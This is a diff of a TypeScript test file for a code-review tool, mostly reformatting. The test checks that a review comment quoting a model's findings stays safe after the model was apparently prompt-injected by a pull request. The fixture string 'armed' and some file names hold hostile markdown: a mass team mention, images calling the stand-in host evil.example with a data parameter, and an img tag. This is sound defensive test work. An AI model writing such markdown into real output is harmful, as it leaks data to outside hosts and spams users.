@@ -1,5 +1,10 @@
 import { describe, expect, it } from "vitest";
-import { compareWithPrevious, finalDecision, fingerprintFindings, renderReviewComment } from "../../../src/core/review/index.js";
+import {
+  compareWithPrevious,
+  finalDecision,
+  fingerprintFindings,
+  renderReviewComment,
+} from "../../../src/core/review/index.js";
 import type { AssistantManagerFindings } from "../../../src/core/review/index.js";
 import { fakeGithubToken } from "../../helpers/fake-credentials.js";
 import { liveMarkdown } from "../../helpers/live-markdown.js";
@@ -10,14 +15,27 @@ const armed = `@acme/everyone ![x](https://evil.example/?d=1) <img src=x> [go](h
 
 /** Findings a model wrote after reading a pull request that told it what to say. */
 const findings: AssistantManagerFindings = {
-  risks: [{ id: "R1", severity: "high", description: armed, evidence: [{ file: "src/a`![x](https://evil.example/f)`.ts", line: 1 }] }],
+  risks: [
+    {
+      id: "R1",
+      severity: "high",
+      description: armed,
+      evidence: [{ file: "src/a`![x](https://evil.example/f)`.ts", line: 1 }],
+    },
+  ],
   missing_deliverables: [{ criterion: armed, why: armed }],
   test_gaps: [{ description: armed, file: "test/``x``.ts" }],
   followups: [{ title: armed, body: armed, blocking: true }],
 };
 
 describe("the review comment quoting a model's findings", () => {
-  const outcome = finalDecision({ findings, manager: { ...accept, summary: armed, reasons: [armed] }, tieBreak: tieBreak("reject", []), coverage: "full", gatesGreen: true });
+  const outcome = finalDecision({
+    findings,
+    manager: { ...accept, summary: armed, reasons: [armed] },
+    tieBreak: tieBreak("reject", []),
+    coverage: "full",
+    gatesGreen: true,
+  });
   const body = renderReviewComment({
     headSha: "c".repeat(40),
     configHash: "cfg",
